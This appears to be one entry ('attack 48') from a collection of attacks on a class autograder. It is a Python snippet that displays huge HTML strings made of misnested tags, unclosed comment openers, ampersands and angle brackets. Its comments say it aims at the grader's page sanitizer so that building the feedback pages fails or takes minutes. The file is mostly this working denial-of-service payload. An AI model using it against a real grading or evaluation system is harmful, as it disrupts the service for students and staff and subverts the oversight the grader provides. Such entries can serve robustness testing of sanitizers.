# attack: 48
# title: formatting tags closed in the wrong order, thousands of times
# success: making the feedback pages of the class fails or takes minutes
# unshown: aims at the cleaner of this grader's pages
from IPython.display import HTML, display

display(HTML("<table><b><i><a>" * 20_000 + "</b><p></i>" * 20_000 + "<!--" * 9000))
display(HTML("&" * 200_000 + "<" * 200_000 + "<a " * 50_000))
